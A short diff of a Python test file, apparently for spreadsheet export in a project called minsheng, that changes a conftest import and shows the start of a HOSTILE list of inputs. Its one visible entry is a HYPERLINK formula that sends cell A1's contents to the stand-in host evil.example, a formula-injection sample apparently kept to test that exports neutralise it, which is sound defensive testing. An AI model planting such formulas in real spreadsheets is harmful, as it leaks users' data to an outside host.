@@ -7,8 +7,7 @@ import pytest
 from openpyxl import load_workbook
 
 from minsheng.plans.models import Project
-
-from .conftest import plan, project
+from tests.conftest import plan, project
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
